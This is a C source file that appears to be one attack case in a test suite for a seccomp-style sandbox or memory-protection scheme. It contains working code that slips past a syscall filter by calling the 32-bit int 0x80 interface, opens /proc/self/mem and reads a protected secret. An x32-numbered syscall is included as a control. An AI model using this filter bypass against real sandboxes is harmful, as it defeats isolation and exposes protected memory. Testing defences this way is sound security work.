/* C8: the kernel's other system call interfaces, with other numbers, past a filter
 * that knows one. By int 0x80 (32-bit numbers) /proc/self/mem is opened and read;
 * x32 (numbers with bit 30) does not exist on most kernels: a control.
 *
 * Source: [seccomp(2)], [syscall(2)].
 */
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

/* Of the 32-bit interface, whose header cannot be included beside the 64-bit one. */
enum { I386_OPEN = 5, I386_PREAD64 = 180 };
#define X32_BIT 0x40000000

/* Pointers must lie below 4 GiB. Returns as libc would. */
static long int80(long number, unsigned long a, unsigned long b, unsigned long c, unsigned long d, unsigned long e) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory", "r8", "r9", "r10", "r11");
    result = (int)result;
    if (result >= 0) return result;
    errno = (int)-result;
    return -1;
}

static void by_int80(void) {
    static const char path[] = "/proc/self/mem";
    char *low = mmap(NULL, PAGE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    TRY("mmap", low == MAP_FAILED ? -1 : 0);
    memcpy(low, path, sizeof path);
    uintptr_t at = (uintptr_t)target.secret;
    long fd = TRY("open", int80(I386_OPEN, (uintptr_t)low, O_RDONLY, 0, 0, 0));
    char *bytes = low + SECRET_BYTES;
    TRY("pread64", int80(I386_PREAD64, (unsigned long)fd, (uintptr_t)bytes, SECRET_BYTES, (uint32_t)at, at >> 32));
    attack_hand_in(bytes, SECRET_BYTES);
}

static void by_x32(void) {
    TRY("x32", syscall(X32_BIT | SYS_pkey_mprotect, target.secret, PAGE_BYTES, PROT_READ | PROT_WRITE, 0));
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "int80", .attack = by_int80},
    {.variant = "x32", .attack = by_x32, .flags = ATTACK_CONTROL},
    {0},
};
